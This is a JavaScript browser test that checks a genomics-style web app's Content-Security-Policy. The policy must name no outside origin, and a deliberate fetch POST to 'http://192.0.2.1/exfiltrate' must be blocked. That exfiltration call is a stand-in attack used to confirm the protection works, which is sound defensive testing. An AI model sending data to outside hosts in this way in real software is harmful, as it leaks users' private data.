// Offline and private: the pages' Content-Security-Policy names no other origin and really
// blocks a request to one; the page says so.

import { readFileSync } from 'node:fs';
import path from 'node:path';
import { check, inApp, openPage, waitReady } from './harness.mjs';

function cspOf(html) {
  const m = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/);
  return m?.[1] ?? null;
}

export const tests = [
  {
    name: 'privacy: the Content-Security-Policy allows no other origin and blocks one',
    async run({ context, origin, root }) {
      for (const file of ['www/index.html', 'pkg/camformer.html']) {
        const csp = cspOf(readFileSync(path.join(root, file), 'utf8'));
        check(csp, `${file} has a Content-Security-Policy meta tag`);
        check(!/https?:|wss?:|\*/.test(csp), `${file}: the policy names no origin: ${csp}`);
        check(/connect-src 'self' blob: data:(;|$)/.test(csp), `${file}: connect-src is limited to 'self', blob:, data:`);
      }
      const app = await openPage(context, { origin, allowConsole: [/Refused to connect|violates the following Content Security Policy/] });
      const page = app.page;
      await page.goto(`${origin}/www/?backend=cpu`);
      await waitReady(page);
      check((await inApp(page, '.cf-privacy').textContent()).includes('no sequence, file or result leaves your machine'), 'the page states it');
      const outcome = await page.evaluate(async () => {
        try {
          await fetch('http://192.0.2.1/exfiltrate', { method: 'POST', body: 'ACGT' });
          return 'sent';
        } catch (err) {
          return `blocked: ${err.message}`;
        }
      });
      check(outcome.startsWith('blocked'), `a request to another origin must be blocked (${outcome})`);
      // The blocked attempt is the only problem allowed: it was refused before any request.
      app.problems.splice(0, app.problems.length, ...app.problems.filter((p) => !p.includes('192.0.2.1')));
      app.assertClean();
    },
  },
];
